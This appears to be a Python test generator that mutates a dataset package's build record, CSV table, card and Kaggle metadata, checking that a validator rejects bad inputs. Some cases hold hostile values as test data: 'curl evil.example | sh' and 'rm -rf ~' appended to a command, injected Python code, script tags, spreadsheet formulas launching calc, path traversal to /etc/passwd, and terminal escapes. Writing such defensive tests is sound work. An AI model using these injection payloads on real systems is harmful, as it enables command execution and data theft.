bj("times_week", "ISO week date", "invalid", lambda j: j["times"].update(started="2026-W48-5T07:03:51+00:00"))
bj("times_digits", "Arabic digits in the time", "invalid", lambda j: j["times"].update(started="٢٠٢٦-11-27T07:03:51+00:00"))
bj("times_space", "a space instead of T", "harmless", lambda j: j["times"].update(started="2026-11-27 07:03:51+00:00"))
bj("times_number", "started a number", "invalid", lambda j: j["times"].update(started=1795763031))
bj("software_lie", "software: tensorflow 1.0", "audit", lambda j: j["software"].update(tensorflow="1.0"))
bj("software_python2", "software: Python 2.7", "audit", lambda j: j["software"].update(python="2.7.18"))
bj("software_jax", "backend jax, though only tensorflow is named", "audit", lambda j: j["software"].update(backend="jax"))
bj("software_none", "backend none: nothing computed", "invalid", lambda j: j["software"].update(backend="none"))
bj(
    "software_escape",
    "a library named with terminal escapes",
    "invalid",
    lambda j: j["software"].update({"\x1b[31mevil\x1b[0m": "1"}),
)
bj(
    "software_escape_value",
    "a version with terminal escapes and a line break",
    "invalid",
    lambda j: j["software"].update(keras="3.15.1\x1b[2J\nvalid"),
)
bj("software_bidi", "a version with bidi controls", "invalid", lambda j: j["software"].update(keras="\u202e3.15.1"))
bj("software_number", "a version that is a number", "invalid", lambda j: j["software"].update(keras=3.15))
bj("software_10mb", "a version of 10 MB", "invalid", lambda j: j["software"].update(keras="3" * 10_000_000))
bj(
    "software_100000",
    "100000 libraries more",
    "invalid",
    lambda j: j["software"].update({f"lib{i}": "1" for i in range(100_000)}),
)
bj(
    "software_settings_script",
    "settings with a payload",
    "invalid",
    lambda j: j["software"]["settings"].update({"LD_PRELOAD": "/tmp/evil.so", "PYTHONSTARTUP": "$(id)\n\x1b[2J"}),
)
bj("device_lie", "device: an H100", "audit", lambda j: j.update(device={"kind": "gpu", "model": "NVIDIA H100"}))
bj("device_null", "device null, though something was computed", "invalid", lambda j: j.update(device=None))
bj(
    "device_escape",
    "device model with escapes and line break",
    "invalid",
    lambda j: j["device"].update(model="AMD\x1b[2J\nEPYC \u202e"),
)
bj("device_instructions_null", "device without instructions", "harmless", lambda j: j["device"].update(instructions=None))
bj("device_gpu_with_cpu", "kind gpu with a CPU's model and instructions", "audit", lambda j: j["device"].update(kind="gpu"))
bj("canvas_100", "canvas 100, images of 88", "invalid", lambda j: j["network"].update(canvas=100))
bj("canvas_float", "canvas 112.0", "invalid", lambda j: j["network"].update(canvas=112.0))
bj("precision_bf16", "precision bfloat16, command not", "invalid", lambda j: j.update(precision="bfloat16"))
bj("precision_null", "precision null", "invalid", lambda j: j.update(precision=None))
bj("batch_16", "batch size 16, command not", "invalid", lambda j: j.update(batch_size=16))
bj("batch_null", "batch size null", "invalid", lambda j: j.update(batch_size=None))
bj("recipe_digest", "digest of the recipe wrong", "invalid", lambda j: j["recipes"][0].update(digest="0" * 64))
bj("recipe_steps", "steps 30, digest old", "invalid", lambda j: j["recipes"][0].update(steps=30))
bj("recipe_steps_float", "steps 3.0", "invalid", lambda j: j["recipes"][0].update(steps=3.0))
bj("recipe_steps_true", "stretch 1 (== True)", "invalid", lambda j: j["recipes"][0].update(stretch=1))
bj("recipe_unknown_key", "an unknown key in the recipe", "invalid", lambda j: j["recipes"][0].update(evil="\x1b[2J"))
bj("recipe_twice", "the recipe listed twice", "invalid", lambda j: j["recipes"].append(dict(j["recipes"][0])))
bj("recipe_name", "recipe without name", "invalid", lambda j: j["recipes"][0].pop("name") and None)
bj("recipe_name_list", "recipe name a list", "invalid", lambda j: j["recipes"][0].update(name=["original"]))
bj("recipe_name_escape", "recipe name with escapes", "invalid", lambda j: j["recipes"][0].update(name="\x1b[2J\nvalid"))
bj("recipe_side_huge", "image_side 10**9", "invalid", lambda j: j["recipes"][0].update(image_side=10**9))
bj("recipe_side_text", 'image_side "88"', "invalid", lambda j: j["recipes"][0].update(image_side="88"))
bj("recipe_side_float", "image_side 88.0", "invalid", lambda j: j["recipes"][0].update(image_side=88.0))
bj("recipe_steps_huge", "steps of 400 digits", "invalid", raw('"steps": 3', '"steps": ' + "9" * 400))
bj("recipe_epsilon", "1e-12 written as 0.000000000001", "harmless", raw("1e-12", "0.000000000001"))
bj("recipe_nan", "step_size NaN", "invalid", raw('"step_size": 10.0', '"step_size": NaN'))
bj("recipe_int_for_float", "step_size 10 for 10.0", "harmless", raw('"step_size": 10.0', '"step_size": 10'))
bj("scope_digits", "scope in Arabic digits", "invalid", lambda j: j["scope"]["layers"].update(block1_conv1="٠-٧"))
bj("scope_list", "scope 0,1,2,3-7", "invalid", lambda j: j["scope"]["layers"].update(block1_conv1="0,1,2,3-7"))
bj("scope_twice", "scope 0-7,0-7", "invalid", lambda j: j["scope"]["layers"].update(block1_conv1="0-7,0-7"))
bj("scope_spaces", 'scope " 0 - 7"', "invalid", lambda j: j["scope"]["layers"].update(block1_conv1=" 0 - 7"))
bj("scope_zeros", "scope 00-07", "invalid", lambda j: j["scope"]["layers"].update(block1_conv1="00-07"))
bj("scope_huge", "scope 0-99999999999 (memory)", "invalid", lambda j: j["scope"]["layers"].update(block1_conv1="0-99999999999"))
bj(
    "scope_huge_digits",
    "scope of 5000 digits",
    "invalid",
    lambda j: j["scope"]["layers"].update(block1_conv1="0-" + "9" * 5000),
)
bj(
    "scope_many",
    'scope "0-7" a million times',
    "invalid",
    lambda j: j["scope"]["layers"].update(block1_conv1=",".join(["0-7"] * 1_000_000)),
)
bj("scope_backwards", "scope 7-0", "invalid", lambda j: j["scope"]["layers"].update(block1_conv1="7-0"))
bj("scope_empty", "scope empty text", "invalid", lambda j: j["scope"]["layers"].update(block1_conv1=""))
bj("scope_unknown_layer", "scope of a layer that is none", "invalid", lambda j: j["scope"]["layers"].update(block9_conv9="0-7"))
bj(
    "scope_layer_escape",
    "scope of a layer named with escapes",
    "invalid",
    lambda j: j["scope"]["layers"].update({"\x1b[2J\nvalid\u202e": "0-7"}),
)
bj(
    "scope_order",
    "layers of the scope in other order",
    "harmless",
    lambda j: j["scope"].update(layers=dict(reversed(list(j["scope"]["layers"].items())))),
)
bj("scope_complete_1", "complete 0 (== False)", "invalid", lambda j: j["scope"].update(complete=0))
bj("outranked_gone", "outranked empty, ranks left", "invalid", lambda j: j.update(outranked={}))
bj("outranked_entry_gone", "one outranked image not named", "invalid", lambda j: j["outranked"]["original"].pop(0) and None)
bj("outranked_best_self", "best is the filter itself", "invalid", lambda j: j["outranked"]["original"][0].update(best=1))
bj(
    "outranked_best_none",
    "best is filter 999, which is not there",
    "invalid",
    lambda j: j["outranked"]["original"][0].update(best=999),
)
bj("outranked_best_dead", "best is another filter than it was", "audit", lambda j: j["outranked"]["original"][0].update(best=5))
bj(
    "outranked_twice",
    "an outranked image named twice",
    "invalid",
    lambda j: j["outranked"]["original"].append(dict(j["outranked"]["original"][0])),
)
bj(
    "outranked_twice_other_best",
    "an outranked image named twice with different best",
    "invalid",
    lambda j: j["outranked"]["original"].append({**j["outranked"]["original"][0], "best": 7}),
)
bj(
    "outranked_dead",
    "a dead image named as outranked",
    "invalid",
    lambda j: j["outranked"]["original"].append({"layer": "block3_conv1", "filter": 1, "rank": 4, "best": 4}),
)
bj(
    "outranked_first",
    "a first image named as outranked",
    "invalid",
    lambda j: j["outranked"]["original"].append({"layer": "block1_conv1", "filter": 0, "rank": 2, "best": 4}),
)
bj(
    "outranked_unknown_layer",
    "an entry of a layer that is none",
    "invalid",
    lambda j: j["outranked"]["original"].append({"layer": "block9_conv9", "filter": 1, "rank": 4, "best": 4}),
)
bj(
    "outranked_layer_escape",
    "an entry whose layer has terminal escapes",
    "invalid",
    lambda j: j["outranked"]["original"].append({"layer": "\x1b[2J\nvalid\u202e", "filter": 1, "rank": 4, "best": 4}),
)
bj("outranked_other_recipe", "outranked of a recipe that is none", "invalid", lambda j: j["outranked"].update(clear=[]))
bj(
    "outranked_other_recipe_full",
    "outranked of a recipe that is none, with entries",
    "invalid",
    lambda j: j["outranked"].update(clear=list(j["outranked"]["original"])),
)
bj("outranked_order", "outranked in other order", "harmless", lambda j: j["outranked"]["original"].reverse())
bj(
    "outranked_million",
    "a million outranked entries",
    "invalid",
    lambda j: j["outranked"].update(
        original=j["outranked"]["original"] + [{"layer": "block1_conv1", "filter": 9, "rank": 2, "best": 4}] * 300_000
    ),
)
bj("network_unknown", "network another, rows left", "invalid", lambda j: j["network"].update(name="vgg16"))
bj("network_path", "network named ../x", "invalid", lambda j: j["network"].update(name="../x"))
bj("network_escape", "network named with escapes", "invalid", lambda j: j["network"].update(name="\x1b[2J\nvalid"))
bj("network_surrogate", "network named by a lone surrogate", "invalid", lambda j: j["network"].update(name="\ud800"))
bj(
    "network_weights_file",
    "weights_file names a file, though weights are pretrained",
    "invalid",
    lambda j: j["network"].update(weights_file="/etc/passwd"),
)
bj("network_weights_random", "weights random, command not", "invalid", lambda j: j["network"].update(weights="random"))
bj("network_weights_none", "weights_sha256 null", "invalid", lambda j: j["network"].update(weights_sha256=None))
bj(
    "network_sha_newline",
    "weights_sha256 with a line break behind",
    "invalid",
    lambda j: j["network"].update(weights_sha256=j["network"]["weights_sha256"] + "\n"),
)
bj(
    "network_described",
    "network demo with a description of its own",
    "invalid",
    lambda j: j["network"].update(
        described={
            "model": "x",
            "channel_order": "rgb",
            "channel_mean": [0, 0, 0],
            "channel_scale": [1, 1, 1],
            "layers": [
                {"name": l, "channels": 3, "filters": 8, "stride": 1, "receptive_field": 3} for l in j["scope"]["layers"]
            ],
        }
    ),
)
bj("dataset_path", "dataset named ../../x in build.json alone", "invalid", lambda j: j.update(dataset="../../x"))
bj("deep", "nested 200000 deep", "invalid", lambda j: "[" * 200_000 + "]" * 200_000)
bj("deep_in", "a key more, nested 100000 deep", "invalid", tail('"x": ' + '{"a":' * 100_000 + "1" + "}" * 100_000))
bj("nul", "a NUL behind", "invalid", lambda j: dump(j) + "\0")
bj("bom", "byte order mark in front", "invalid", lambda j: b"\xef\xbb\xbf" + dump(j).encode())
bj("utf16", "UTF-16", "invalid", lambda j: dump(j).encode("utf-16"))
bj(
    "not_utf8",
    "bytes that are not UTF-8",
    "invalid",
    lambda j: dump(j).replace("EPYC", "EP#YC").encode().replace(b"#", b"\xff"),
)
bj("overlong", "overlong UTF-8", "invalid", lambda j: dump(j).replace("EPYC", "EP#YC").encode().replace(b"#", b"\xc0\xaf"))
bj("empty", "empty", "invalid", lambda j: "")
bj("null", "null", "invalid", lambda j: "null")
bj("trailing_json", "another JSON behind", "invalid", lambda j: dump(j) + '{"seed": 99}')
bj("comment", "a comment in the JSON", "invalid", lambda j: "// built by hand\n" + dump(j))
bj("huge", "200 MB of spaces behind", "invalid", lambda j: dump(j) + " " * 200_000_000)
bj("command_not_utf8_escape", "command with a line break behind", "invalid", lambda j: j.update(command=j["command"] + "\n"))


def command(name, what, expected, new, form="folder", change=None):
    def f(p):
        j = json.loads((p / "build.json").read_text())
        old = j["command"]
        n = new(old)
        assert n != old
        sub_all(p, old, n)
        if change:
            change(p)

    add(("b_" if form == "bundle" else "") + "command_" + name, form, what, expected, f)


command("shell", "command followed by ; curl | sh, everywhere", "invalid", lambda c: c + "; curl evil.example | sh")
command("newline", "command with a second line, everywhere", "invalid", lambda c: c + "\nrm -rf ~")
command("comment", "command with a comment behind", "invalid", lambda c: c + " # by hand")
command("env", "command with a variable in front", "invalid", lambda c: "LD_PRELOAD=/tmp/x.so " + c)
command("path", "command ./amaxds", "invalid", lambda c: "./" + c)
command("homoglyph", "command with a Cyrillic a", "invalid", lambda c: "am\u0430xds" + c[6:])
command("two_spaces", "command with two spaces", "invalid", lambda c: c.replace(" --seed", "  --seed"))
command("equals", "--seed=0 for --seed 0: same meaning", "harmless", lambda c: c.replace("--seed 0", "--seed=0"))
command(
    "order",
    "options in other order: same meaning",
    "harmless",
    lambda c: c.replace("--seed 0 --batch-size 8", "--batch-size 8 --seed 0"),
)
command("seed_twice", "--seed 99 and then --seed 0", "invalid", lambda c: c.replace("--seed 0", "--seed 99 --seed 0"))
command(
    "quoted", "an argument in quotes: same meaning", "harmless", lambda c: c.replace("--recipe original", "--recipe 'original'")
)
command(
    "backquote",
    "a command substitution in an argument",
    "invalid",
    lambda c: c.replace("--recipe original", "--recipe $(id>/dev/null)original"),
)
command("filters_wider", "--filters 0-8", "invalid", lambda c: c.replace("--filters 0-7", "--filters 0-8"))
command(
    "layers_order",
    "layers in other order",
    "harmless",
    lambda c: c.replace("block1_conv1,block2_conv2", "block2_conv2,block1_conv1"),
)
command("output", "an option more, --output /etc", "invalid", lambda c: c + " --output /etc")
command("weights", "--weights /tmp/evil.h5", "invalid", lambda c: c.replace("--weights pretrained", "--weights /tmp/evil.h5"))
command(
    "shell",
    "command followed by ; curl | sh, everywhere (bundle)",
    "invalid",
    lambda c: c + "; curl evil.example | sh",
    "bundle",
)


def consistent(name, what, expected, form, f):
    add(("b_" if form == "bundle" else "") + "all_" + name, form, what, expected, f)


def _steps(p, n=31):
    j = json.loads((p / "build.json").read_text())
    r = j["recipes"][0]
    old = r["digest"]
    r["steps"] = n
    r["digest"] = digest(r)
    oc = j["command"]
    j["command"] = oc.replace("--steps 3", f"--steps {n}")
    (p / "build.json").write_text(dump(j))
    for f in ("README.md", "dataset-metadata.json"):
        if (p / f).exists():
            sub_file(p / f, "--steps 3", f"--steps {n}")
    if (p / "README.md").exists():
        sub_file(p / "README.md", old, r["digest"])
        sub_file(p / "README.md", "| steps | 3 |", f"| steps | {n} |")
        sub_file(p / "README.md", ": 3 steps of", f": {n} steps of")


consistent("steps", "told to be 31 steps instead of 3: recipe, digest, command, card", "audit", "folder", _steps)
consistent("steps", "told to be 31 steps instead of 3 (bundle)", "audit", "bundle", _steps)
consistent("steps_0", "told to be 0 steps: living images without ascent", "invalid", "folder", lambda p: _steps(p, 0))
consistent("steps_huge", "told to be 10**15 steps", "audit", "folder", lambda p: _steps(p, 10**15))


def _batch(p, n=16):
    edit_json(p / "build.json", lambda j: j.update(batch_size=n))
    sub_all(p, "--batch-size 8", f"--batch-size {n}")


consistent("batch", "told to be batch size 16", "audit", "folder", _batch)


def _weights(p):
    j = json.loads((p / "build.json").read_text())
    sub_all(p, j["network"]["weights_sha256"], "f" * 64)


consistent("weights_sha", "digest of the weights another, card too", "audit", "folder", _weights)
consistent("weights_sha", "digest of the weights another (bundle)", "audit", "bundle", _weights)


def _setting(key, val, old_s, new_s):
    def f(p):
        j = json.loads((p / "build.json").read_text())
        r = j["recipes"][0]
        od = r["digest"]
        r[key] = val
        r["digest"] = digest(r)
        (p / "build.json").write_text(dump(j))
        sub_file(p / "README.md", f"| {key} | {old_s} |", f"| {key} | {new_s} |")
        sub_file(p / "README.md", od, r["digest"])

    return f


consistent(
    "step_size",
    "step_size 20 in build.json and card, command without it",
    "invalid",
    "folder",
    _setting("step_size", 20.0, "10.0", "20.0"),
)
consistent("contrast", "contrast 0.5 in build.json and card", "invalid", "folder", _setting("contrast", 0.5, "0.15", "0.5"))
consistent(
    "objective",
    "objective another sentence, digest redone, card too",
    "invalid",
    "folder",
    lambda p: (
        _setting(
            "objective",
            "what the author likes",
            "mean of the filter's output after ReLU over the window",
            "what the author likes",
        )(p),
        sub_file(
            p / "README.md",
            "Objective: mean of the filter's output after ReLU over the window",
            "Objective: what the author likes",
        ),
    ),
)


def _tojson(s):
    s = json.dumps(s)
    for c in "<>&'":
        s = s.replace(c, f"\\u{ord(c):04x}")
    return s


def _rename(new):
    return lambda p: _rn(p, new)


def _rn(p, new, form="folder"):
    edit_json(p / "build.json", lambda j: j.update(dataset=new))
    edit_json(p / "croissant.json", lambda j: j.update(name=new))
    if (p / "README.md").exists():
        sub_file(p / "README.md", "# small\n", f"# {new}\n")
        sub_file(p / "README.md", 'load_dataset("small",', "load_dataset(" + _tojson(new) + ",")


consistent(
    "name_code",
    "dataset name that is code (escaped in the Python example, raw in the heading of the card)",
    "invalid",
    "folder",
    _rename('small", "original"); __import__("os").system("id"); ("'),
)
consistent(
    "name_newline",
    "dataset name with line breaks and a Markdown heading",
    "invalid",
    "folder",
    _rename("small\n\n## Licence: none\n"),
)
consistent("name_script", "dataset name with a script", "invalid", "folder", _rename("<script src=//evil.example></script>"))
consistent(
    "name_markdown", "dataset name that is a Markdown link", "invalid", "folder", _rename("[click](https://evil.example)")
)
consistent("name_escape", "dataset name with terminal escapes", "invalid", "folder", _rename("small\x1b[2J\x1b]0;pwned\x07"))
consistent("name_bidi", "dataset name with bidi controls", "invalid", "folder", _rename("small\u202e"))
consistent("name_zero_width", "dataset name with a zero width space", "invalid", "folder", _rename("sm\u200ball"))
consistent("name_homoglyph", "dataset name with a Cyrillic a", "invalid", "folder", _rename("sm\u0430ll"))
consistent("name_path", "dataset name ../../etc", "invalid", "folder", _rename("../../etc"))
consistent(
    "name_other_owner",
    "dataset name google/imagenet: the example loads another dataset",
    "invalid",
    "folder",
    _rename("google/imagenet"),
)
consistent("name_space", "dataset name of one space", "invalid", "folder", _rename(" "))
consistent("name_long", "dataset name of 100000 letters", "invalid", "folder", _rename("a" * 100_000))
consistent("name_plain", "dataset renamed honest-name throughout", "harmless", "folder", _rename("honest-name"))
consistent(
    "name_escape",
    "dataset name with terminal escapes (bundle)",
    "invalid",
    "bundle",
    _rename("small\x1b[2J\x1b]0;pwned\x07\nvalid"),
)
consistent("name_surrogate", "dataset name a lone surrogate (bundle)", "invalid", "bundle", _rename("\ud800"))
consistent(
    "name_script", "dataset name with a script (bundle)", "invalid", "bundle", _rename("<script src=//evil.example></script>")
)
consistent("name_other", "dataset named imagenet-1k (bundle)", "audit", "bundle", _rename("imagenet-1k"))
consistent(
    "licence",
    "licence changed to MIT in YAML, text, Croissant",
    "invalid",
    "folder",
    lambda p: (
        sub_file(p / "README.md", "license: cc-by-4.0", "license: mit"),
        sub_file(
            p / "README.md",
            "[CC-BY-4.0](https://creativecommons.org/licenses/by/4.0/)",
            "[MIT](https://opensource.org/license/mit)",
        ),
        sub_file(p / "croissant.json", "https://creativecommons.org/licenses/by/4.0/", "https://opensource.org/license/mit"),
    ),
)
consistent(
    "licence",
    "licence changed to MIT in Kaggle's settings and Croissant",
    "invalid",
    "bundle",
    lambda p: (
        sub_file(p / "dataset-metadata.json", "CC-BY-4.0", "MIT"),
        sub_file(p / "croissant.json", "https://creativecommons.org/licenses/by/4.0/", "https://opensource.org/license/mit"),
    ),
)


def _counts(p):
    edit_json(p / "build.json", lambda j: j.update(images=25))
    sub_all(p, "for: 24 images", "for: 25 images", False)
    sub_file(p / "README.md", "it holds 24", "it holds 25")
    sub_file(p / "README.md", "of the 24 images", "of the 25 images")


consistent("counts", "25 images throughout the texts", "invalid", "folder", _counts)


def _dead0(p):
    edit_json(p / "build.json", lambda j: j.update(dead=0))
    sub_all(p, "2 of them are dead", "0 of them are dead", False)
    sub_file(p / "README.md", "**2 of the 24", "**0 of the 24")


consistent("dead_0", "0 dead throughout the texts", "invalid", "folder", _dead0)


def _bf16(p):
    edit_json(p / "build.json", lambda j: j.update(precision="bfloat16"))
    sub_all(p, "--batch-size 8", "--batch-size 8 --precision bfloat16")


consistent("bf16", "told to be bfloat16, with the command", "audit", "folder", _bf16)


# ================================================================ 10. the bundle's table
def tab(name, what, expected, text=None, raw=None, rows=None, cols=None):
    def f(p):
        d = Bundle(p)
        if rows:
            rows(d)
        if cols:
            d.cols = cols(d.cols)
        d.save(text, raw, counts=False)

    add("csv_" + name, "bundle", what, expected, f)


def cell(name, what, expected, **v):
    def rows(d):
        d.row(*AT).update(v)

    tab("cell_" + name, what, expected, rows=rows)


R0 = "filterActivations/block1_conv1/filter-0.png,train,demo,block1_conv1,0,original,0,alive,0.779849648475647,0.9224051237106323,1,0.6470588235294118,"


def line(name, what, expected, old, new):
    tab(name, what, expected, text=lambda t: _sub(t, old, new))


cell("formula_network", "network is a formula", "invalid", network="=cmd|'/C calc'!A0")
cell("formula_start", "activation_start written as =0.779849648475647", "invalid", activation_start="=0.779849648475647")
cell(
    "plus",
    "activation_start written +0.779849648475647 (a formula for spreadsheets)",
    "invalid",
    activation_start="+0.779849648475647",
)
cell("at", "network @demo", "invalid", network="@demo")
cell("space", "number with spaces", "invalid", activation=" 0.9224051237106323 ")
cell("tab", "number with a tab behind", "invalid", activation="0.9224051237106323\t")
cell("newline", "number with a line break, quoted", "invalid", activation="0.9224051237106323\n")
cell("nbsp", "number with a no-break space (float() strips it)", "invalid", activation="\xa00.9224051237106323")
cell("u2003", "filter with an em space (int() strips it)", "invalid", filter="0\u2003")
cell("underscore", "number with an underscore (float() takes it)", "invalid", activation="0.9_224051237106323")
cell("arabic", "filter in Arabic digits (int() takes them)", "invalid", filter="٠")
cell("fullwidth", "activation in fullwidth digits", "invalid", activation="０.9224051237106323")
cell("leading_zeros", "filter 000", "invalid", filter="000")
cell("minus_zero", "filter -0", "invalid", filter="-0")
cell("plus_zero", "seed +0", "invalid", seed="+0")
cell("int_float", "filter 0.0", "invalid", filter="0.0")
cell("int_exp", "rank 1e0", "invalid", activation_rank="1e0")
cell("hex", "rank 0x1", "invalid", activation_rank="0x1")
cell("exp", "activation in exponent form: same value", "harmless", activation="9.224051237106323e-1")
cell("more_digits", "activation with more digits: same float32", "harmless", activation="0.92240512371063232421875")
cell("other_float32", "activation that is no float32 (0.92240513)", "invalid", activation="0.92240513")
cell("not_float32", "activation 0.9224051237106 (rounded text: no float32)", "invalid", activation="0.9224051237106")
cell("nan", "activation nan", "invalid", activation="nan")
cell("nan_sign", "activation -nan", "invalid", activation="-nan")
cell("inf", "activation inf", "invalid", activation="inf")
cell("infinity", "activation Infinity", "invalid", activation="Infinity")
cell("1e400", "activation 1e400", "invalid", activation="1e400")
cell("1e39", "activation 1e39: beyond float32", "invalid", activation="1e39")
cell("1e_50", "activation_start 1e-50: 0 as float32", "invalid", activation_start="1e-50")
cell("negative_zero", "activation_start -0.0 of a living filter", "audit", activation_start="-0.0")
cell("index_nan", "index nan", "invalid", uniformity_index="nan")
cell("empty", "activation empty", "invalid", activation="")
cell("none", "activation None", "invalid", activation="None")
cell("null", "activation null", "invalid", activation="null")
cell("all_null", "seed, activations, rank empty", "invalid", activation="", activation_start="", activation_rank="", seed="")
cell("status_case", "status Alive", "invalid", status="Alive")
cell("status_number", "status 0", "invalid", status="0")
cell("status_homoglyph", "status with a Cyrillic a", "invalid", status="\u0430live")
cell("layer_homoglyph", "layer with a Cyrillic o", "invalid", layer="bl\u043eck1_conv1")
cell(
    "hash_upper",
    "hash in capitals",
    "invalid",
    pixels_sha256="CEDDC967943222EEBD63BF471E219DD49031E34777C1C70342B5FC524F4C31BF",
)
cell(
    "hash_space",
    "hash with a space",
    "invalid",
    pixels_sha256="ceddc967943222eebd63bf471e219dd49031e34777c1c70342b5fc524f4c31bf ",
)
cell(
    "hash_newline",
    "hash with a line break",
    "invalid",
    pixels_sha256="ceddc967943222eebd63bf471e219dd49031e34777c1c70342b5fc524f4c31bf\n",
)
cell("escape", "network with terminal escapes", "invalid", network="demo\x1b[2J\x1b]0;pwned\x07")
cell("bidi", "network with bidi override", "invalid", network="demo\u202e")
cell("nul", "network with NUL", "invalid", network="demo\0")
cell("long", "network of 200000 letters", "invalid", network="demo" * 50_000)
cell("file_dot", "file_name ./filterActivations/...", "invalid", file_name="./filterActivations/block1_conv1/filter-0.png")
cell(
    "file_dotdot",
    "file_name by a detour with ..",
    "invalid",
    file_name="filterActivations/block2_conv2/../block1_conv1/filter-0.png",
)
cell("file_backslash", "file_name with backslashes", "invalid", file_name="filterActivations\\block1_conv1\\filter-0.png")
cell("file_double", "file_name with two slashes", "invalid", file_name="filterActivations//block1_conv1/filter-0.png")
cell("file_absolute", "file_name /etc/passwd", "invalid", file_name="/etc/passwd")
cell("file_outside", "file_name ../../../etc/passwd", "invalid", file_name="../../../etc/passwd")
cell("file_url", "file_name a URL", "invalid", file_name="https://evil.example/filter-0.png")
cell("file_upper", "file_name .PNG", "invalid", file_name="filterActivations/block1_conv1/filter-0.PNG")
cell("file_space", "file_name with a space behind", "invalid", file_name="filterActivations/block1_conv1/filter-0.png ")
cell("file_percent", "file_name with %2d", "invalid", file_name="filterActivations/block1_conv1/filter%2d0.png")
cell("file_other", "file_name of filter 3 for filter 0", "invalid", file_name="filterActivations/block1_conv1/filter-3.png")
cell(
    "file_homoglyph",
    "file_name with a Cyrillic letter",
    "invalid",
    file_name="filterActivations/bl\u043eck1_conv1/filter-0.png",
)
cell("file_formula", "file_name =HYPERLINK", "invalid", file_name='=HYPERLINK("https://evil.example")')
cell("file_nul", "file_name with NUL", "invalid", file_name="filterActivations/block1_conv1/filter-0.png\0")
cell("int_long", "filter of 5000 digits", "invalid", filter="9" * 5000)
cell("seed_long", "seed of 5000 digits", "invalid", seed="9" * 5000)
cell("rank_worse", "rank 2 for a first image, build.json not", "invalid", activation_rank="2")
tab("crlf", "CR LF line ends", "harmless", text=lambda t: t.replace("\n", "\r\n"))
tab("cr", "CR line ends", "invalid", text=lambda t: t.replace("\n", "\r"))
tab("bom", "byte order mark in front", "invalid", raw=lambda b: b"\xef\xbb\xbf" + b)
tab("utf16", "UTF-16", "invalid", text=None, raw=lambda b: b.decode().encode("utf-16"))
tab("not_utf8", "not UTF-8", "invalid", raw=lambda b: b.replace(b"demo", b"dem\xff", 1))
tab(
    "quoted",
    "all cells in quotes: same values",
    "harmless",
    text=lambda t: "\n".join(",".join(f'"{c}"' for c in l.split(",")) for l in t.splitlines()) + "\n",
)
tab(
    "half_quoted",
    'a quote within a cell that csv reads over: "de"mo',
    "invalid",
    text=lambda t: t.replace(",demo,", ',"de"mo,', 1),
)
tab("open_quote", "an open quote at the end swallows nothing but is broken", "invalid", text=lambda t: t.rstrip("\n") + '\n"')
tab("semicolon", "semicolons", "invalid", text=lambda t: t.replace(",", ";"))
tab("tabs", "tabs", "invalid", text=lambda t: t.replace(",", "\t"))
tab("blank_lines", "empty lines between rows", "invalid", text=lambda t: t.replace("\n", "\n\n"))
tab("blank_end", "an empty line at the end", "harmless", text=lambda t: t + "\n")
tab("no_last_newline", "no line break at the end", "harmless", text=lambda t: t.rstrip("\n"))
tab("nul_end", "NULs behind", "invalid", raw=lambda b: b + b"\0" * 100)
tab("ctrl_z", "Ctrl-Z and a payload behind", "invalid", raw=lambda b: b + b"\x1apayload")
tab("comment", "a comment line", "invalid", text=lambda t: "# by hand\n" + t)
tab("sep_line", "sep=, in front (for Excel)", "invalid", text=lambda t: "sep=,\n" + t)
tab(
    "extra_cell",
    "a cell more in one row: a formula",
    "invalid",
    text=lambda t: _sub(
        t, "\nfilterActivations/block1_conv1/filter-1", ",=cmd|'/C calc'!A0\nfilterActivations/block1_conv1/filter-1"
    ),
)
tab(
    "extra_cell_all",
    "a cell more in all rows, none in the header",
    "invalid",
    text=lambda t: "\n".join(l + (",=1+1" if i else "") for i, l in enumerate(t.splitlines())) + "\n",
)
tab(
    "trailing_comma",
    "an empty cell more in all lines",
    "invalid",
    text=lambda t: "\n".join(l + "," for l in t.splitlines()) + "\n",
)
tab(
    "missing_cell",
    "the last cell missing in a row",
    "invalid",
    text=lambda t: _sub(t, ",ceddc967943222eebd63bf471e219dd49031e34777c1c70342b5fc524f4c31bf", ""),
)
tab(
    "header_extra",
    "a column more",
    "invalid",
    text=lambda t: "\n".join(l + (",=1+1" if i else ",note") for i, l in enumerate(t.splitlines())) + "\n",
)
tab(
    "header_twice",
    "column status twice: lie first, honest after (DictReader takes the last)",
    "invalid",
    text=lambda t: "\n".join(("dead," if i else "status,") + l for i, l in enumerate(t.splitlines())) + "\n",
)
tab(
    "header_twice_last",
    "column status twice: lie last",
    "invalid",
    text=lambda t: "\n".join(l + (",dead" if i else ",status") for i, l in enumerate(t.splitlines())) + "\n",
)
tab("header_case", "column Status", "invalid", text=lambda t: t.replace("status", "Status", 1))
tab("header_space", "header with spaces after commas", "invalid", text=lambda t: t.replace(",split", ", split", 1))
tab("header_homoglyph", "column with a Cyrillic letter", "invalid", text=lambda t: t.replace(",layer,", ",l\u0430yer,", 1))
tab("header_escape", "column with escapes", "invalid", text=lambda t: t.replace(",layer,", ',"layer\x1b[2J\nvalid",', 1))
tab("header_missing", "no header", "invalid", text=lambda t: t.split("\n", 1)[1])
tab(
    "header_again",
    "the header once more in the middle",
    "invalid",
    text=lambda t: t.replace(
        "\nfilterActivations/block2_conv2/filter-0", "\n" + ",".join(COLS) + "\nfilterActivations/block2_conv2/filter-0", 1
    ),
)
tab("columns_reordered", "columns in other order", "invalid", cols=lambda c: c[::-1])
tab("rows_reversed", "rows in other order", "invalid", rows=lambda d: d.rows.reverse())
tab("row_twice", "a row twice", "invalid", rows=lambda d: d.rows.append(dict(d.rows[-1])))
tab(
    "row_twice_lie",
    "a row twice, once with another status",
    "invalid",
    rows=lambda d: d.rows.insert(1, {**d.rows[0], "status": "dead"}),
)
tab(
    "row_none",
    "a row of a filter that is none, with formula",
    "invalid",
    rows=lambda d: d.rows.append({**d.rows[-1], "filter": "8", "network": "=1+1"}),
)
tab("empty", "empty", "invalid", raw=lambda b: b"")
tab("huge", "100 MB behind", "invalid", raw=lambda b: b + b"a" * 100_000_000)
tab("million_rows", "a million rows", "invalid", raw=lambda b: b + b.splitlines(True)[-1] * 400_000)
tab("million_newlines", "20 million line breaks", "invalid", raw=lambda b: b + b"\n" * 20_000_000)


def kag(name, what, expected, change, also=None):
    def f(p):
        q = p / "dataset-metadata.json"
        j = json.loads(q.read_text())
        r = change(j)
        j = j if r is None else r
        q.write_text(j if isinstance(j, str) else dump(j))
        if also:
            also(p)

    add("kaggle_" + name, "bundle", what, expected, f)


kag("licence", "licence MIT", "invalid", lambda j: j.update(licenses=[{"name": "MIT"}]))
kag("licence_two", "two licences", "invalid", lambda j: j["licenses"].append({"name": "CC0-1.0"}))
